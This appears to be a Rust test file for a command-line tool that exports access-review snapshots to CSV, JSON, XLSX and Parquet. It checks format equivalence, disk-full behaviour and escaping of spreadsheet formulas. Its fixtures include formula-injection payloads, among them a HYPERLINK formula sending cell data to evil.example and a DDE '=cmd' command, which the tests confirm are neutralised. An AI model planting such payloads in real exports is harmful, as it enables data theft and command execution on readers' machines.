//! Snapshots as files.

use std::{
    collections::BTreeMap,
    fs::{self, File},
    path::Path,
};

use parquet::{
    file::reader::{FileReader, SerializedFileReader},
    record::Field,
};
use serde_json::Value;

use super::{
    scene::{Scene, text},
    tables::five,
    workbooks::from_sheet,
};
use crate::command_line::harness;

pub const KINDS: [&str; 5] = [
    "accounts",
    "resources",
    "entitlements",
    "grants",
    "last_activity",
];

/// Rows of a kind: column by column, as text, with nothing where there is
/// nothing.
type Rows = Vec<BTreeMap<String, String>>;

fn from_csv(folder: &Path, kind: &str) -> Rows {
    let mut reader = csv::Reader::from_path(folder.join(format!("{kind}.csv"))).expect("a file");
    let names = reader.headers().expect("names").clone();
    reader
        .records()
        .map(|row| {
            let row = row.expect("a row");
            let cells = names.iter().zip(row.iter());
            cells
                .filter(|(_, cell)| !cell.is_empty())
                .map(|(name, cell)| (name.to_owned(), cell.to_owned()))
                .collect()
        })
        .collect()
}

fn from_json(file: &Path, kind: &str) -> Rows {
    let json: Value = serde_json::from_slice(&fs::read(file).expect("a file")).expect("JSON");
    let rows = json[kind].as_array().expect("a list");
    rows.iter()
        .map(|row| {
            let cells = row.as_object().expect("an object").iter();
            cells
                .map(|(name, cell)| match cell {
                    Value::Null => (name.clone(), String::new()),
                    Value::String(text) => (name.clone(), text.clone()),
                    other => (name.clone(), other.to_string()),
                })
                .filter(|(_, cell)| !cell.is_empty())
                .collect()
        })
        .collect()
}

fn from_parquet(folder: &Path, kind: &str) -> Rows {
    let file = File::open(folder.join(format!("{kind}.parquet"))).expect("a file");
    let reader = SerializedFileReader::new(file).expect("Parquet");
    reader
        .get_row_iter(None)
        .expect("rows")
        .map(|row| {
            let row = row.expect("a row");
            row.get_column_iter()
                .map(|(name, field)| {
                    let cell = match field {
                        Field::Null => String::new(),
                        Field::Str(text) => text.clone(),
                        Field::TimestampMicros(at) => jiff::Timestamp::from_microsecond(*at)
                            .expect("a time")
                            .to_string(),
                        // Without a meaning that the reader knows: JSON.
                        Field::Bytes(bytes) => {
                            String::from_utf8(bytes.data().to_vec()).expect("text")
                        }
                        other => other.to_string(),
                    };
                    (name.clone(), cell)
                })
                .filter(|(_, cell)| !cell.is_empty())
                .collect()
        })
        .collect()
}

#[test]
fn all_formats_hold_the_same_and_all_of_it() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = |name: &str| folder.path().join(name);
    let store = path("store.db");
    let run = |args: &[&str]| {
        let output = harness()
            .args(args)
            .args(["--store", text(&store)])
            .output()
            .expect("it runs");
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(output.status.success(), "{args:?}: {said}");
        said
    };
    run(&["sync", "--simulator", "--users", "60"]);
    for (format, output) in [
        ("csv", "csv"),
        ("json", "all.json"),
        ("xlsx", "all.xlsx"),
        ("parquet", "parquet"),
    ] {
        let said = run(&[
            "export",
            "--format",
            format,
            "--output",
            text(&path(output)),
        ]);
        assert!(said.starts_with("run 1: 60 accounts, "), "{said}");
    }
    run(&[
        "export",
        "--format",
        "csv",
        "--raw",
        "--output",
        text(&path("raw")),
    ]);
    for (sheet, kind) in (1..).zip(KINDS) {
        let rows = from_csv(&path("raw"), kind);
        assert!(rows.len() > 4, "{kind}");
        assert_eq!(from_json(&path("all.json"), kind), rows, "{kind}");
        assert_eq!(from_parquet(&path("parquet"), kind), rows, "{kind}");
        let sheet = from_sheet(&path("all.xlsx"), sheet);
        assert_eq!(sheet.len() - 1, rows.len(), "{kind}");
        let first: Vec<&String> = sheet[1].iter().collect();
        let key = rows[0].values().next().expect("a cell");
        assert!(
            rows[0].values().all(|cell| first.iter().any(|found| {
                // Flags are numbers there.
                *found == cell || (cell == "true" && *found == "1")
            })),
            "{kind} {key}: {first:?}"
        );
    }
    // Nothing in the simulator looks like a formula.
    for kind in KINDS {
        assert_eq!(from_csv(&path("csv"), kind), from_csv(&path("raw"), kind));
    }
    for folder in ["csv", "parquet"] {
        let run = fs::read(path(folder).join("run.json")).expect("it is there");
        let run: Value = serde_json::from_slice(&run).expect("JSON");
        assert_eq!(
            (&run["id"], &run["tenant"]["name"]),
            (&1.into(), &"acme".into())
        );
    }
}

#[test]
fn an_earlier_run_is_exported_as_it_was() {
    let scene = five();
    let then = scene.beside("then");
    let now = scene.beside("now");
    scene.told(&[
        "export",
        "--format",
        "csv",
        "--run",
        "1",
        "--output",
        text(&then),
    ]);
    scene.told(&["export", "--format", "csv", "--output", text(&now)]);
    assert_eq!(from_csv(&then, "accounts").len(), 4);
    assert_eq!(
        from_csv(&now, "accounts").len(),
        5,
        "who is gone is remembered"
    );
    assert_eq!(
        from_csv(&then, "grants").len() + 2,
        from_csv(&now, "grants").len()
    );
}

/// Names that a spreadsheet would take for formulas.
pub const HOSTILE: [&str; 11] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
    // Where `;` separates cells.
    "Ada;=1+1",
    "Ada; \u{a0}＝1+1",
    "Ada\";\"=1+1",
];

pub fn hostile() -> Scene {
    let ids: Vec<String> = (0..HOSTILE.len()).map(|at| format!("P{at:02}")).collect();
    let accounts: Vec<_> = ids
        .iter()
        .zip(HOSTILE)
        .map(|(id, name)| (id.as_str(), name, "pending", None))
        .collect();
    let scene = Scene::with(&accounts);
    scene.sql(
        "UPDATE resources SET label = ?1, description = ?2 WHERE id = 'TPAY'",
        &["=cmd|' /C calc'!A0", "two\nlines \u{1b}[31m"],
    );
    scene.grant(
        1,
        "P00",
        ("team-membership", "team", "TPAY", "responder"),
        None,
    );
    scene
}

#[test]
fn formulas_in_names_become_text_in_csv_unless_programs_ask_for_them() {
    let scene = hostile();
    let safe = scene.beside("safe");
    let raw = scene.beside("raw");
    scene.told(&["export", "--format", "csv", "--output", text(&safe)]);
    scene.told(&["export", "--format", "csv", "--raw", "--output", text(&raw)]);
    let names = |folder: &Path| -> Vec<String> {
        let rows = from_csv(folder, "accounts");
        rows.iter().map(|row| row["display_name"].clone()).collect()
    };
    assert_eq!(names(&raw), HOSTILE);
    assert_eq!(
        names(&safe),
        [
            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "'+1+1",
            "'-2+3",
            "'@SUM(A1:A9)",
            "'\\u{9}=1+1",
            "'\\u{d}=1+1",
            "'＝1+1",
            "'  =1+1",
            "Ada;'=1+1",
            "Ada; \u{a0}'＝1+1",
            "Ada\";\"'=1+1",
        ]
    );
    let team = |folder: &Path| {
        let mut rows = from_csv(folder, "resources").into_iter();
        rows.find(|row| row["resource_type"] == "team")
            .expect("a team")
    };
    assert_eq!(team(&safe)["label"], "'=cmd|' /C calc'!A0");
    assert_eq!(team(&safe)["description"], "two\\u{a}lines \\u{1b}[31m");
    assert_eq!(team(&raw)["description"], "two\nlines \u{1b}[31m");

    for args in [
        ["report", "access"],
        ["report", "licences"],
        ["report", "inactive"],
    ] {
        let told = scene.told(&[&args[..], &["--format", "csv"]].concat());
        // Whichever of them the reader takes for the end of a cell.
        for separator in [b',', b';'] {
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(separator)
                .flexible(true)
                .from_reader(told.as_bytes());
            let mut hostile = 0;
            for row in reader.records() {
                for cell in &row.expect("a row") {
                    let begins = cell.trim_start_matches([' ', '\u{a0}', '"']);
                    assert!(
                        !begins.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
                        "{args:?}: {cell}"
                    );
                    hostile += usize::from(cell.contains("=1+1"));
                }
            }
            assert!(hostile >= 5, "{args:?}: they are in it");
        }
    }
}

/// The process may write so many blocks of 512 bytes to a file, then it gets an
/// error as if the disk were full.
#[cfg(unix)]
fn with_little_room(scene: &Scene, blocks: u32, args: &[&str]) -> (Option<i32>, String) {
    let command = harness();
    let script = format!("trap '' XFSZ; ulimit -f {blocks}; exec \"$0\" \"$@\"");
    let mut shell = std::process::Command::new("sh");
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => shell.env(name, value),
            None => shell.env_remove(name),
        };
    }
    let output = shell
        .args(["-c", &script])
        .arg(command.get_program())
        .args(args)
        .args(["--store", text(&scene.path())])
        .output()
        .expect("it runs");
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    (output.status.code(), said)
}

#[cfg(unix)]
#[test]
fn where_there_is_no_room_everything_stays_as_it_was() {
    let scene = five();
    // More than a buffer of the formats that write in bits.
    scene.batch(
        "WITH RECURSIVE n(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM n WHERE n < 2000)
         INSERT INTO grants (tenant, account, entitlement_type, resource_type, resource, entitlement, from_run)
         SELECT 1, 'PADA', 'team-membership', 'team', hex(randomblob(40)), hex(randomblob(40)), 1 FROM n",
    );
    // In a folder, one of the first files: with a later one in which there is no
    // room.
    for (format, output, kept) in [
        ("csv", "csv", "csv/accounts.csv"),
        ("json", "all.json", "all.json"),
        ("xlsx", "all.xlsx", "all.xlsx"),
        ("parquet", "parquet", "parquet/accounts.parquet"),
    ] {
        let output = scene.beside(output);
        let args = ["export", "--format", format, "--output", text(&output)];
        scene.told(&args);
        let kept = scene.beside(kept);
        let before = fs::read(&kept).expect("it is there");
        let (code, said) = with_little_room(&scene, 100, &args);
        assert_eq!(code, Some(2), "{format}: {said}");
        assert_eq!(said.lines().count(), 1, "{format}: {said}");
        let (cause, hint) = match format {
            // What the library said.
            "xlsx" => (
                "can't be made: ",
                "; hint: rows wait in the folder for temporary files, which `TMPDIR` names",
            ),
            _ => ("can't be written: ", "; hint: "),
        };
        assert!(said.contains(cause) && said.contains(hint), "{said}");
        assert!(said.contains("File too large"), "{said}");
        assert!(fs::read(&kept).expect("it is there") == before, "{format}");
        // Nothing half-written is left behind.
        let folder = kept.parent().expect("a folder");
        let names = fs::read_dir(folder).expect("a folder").map(|entry| {
            let name = entry.expect("an entry").file_name();
            name.to_string_lossy().into_owned()
        });
        let left: Vec<String> = names.filter(|name| name.starts_with(".tmp")).collect();
        assert_eq!(left, Vec::<String>::new(), "{format}");
    }
}
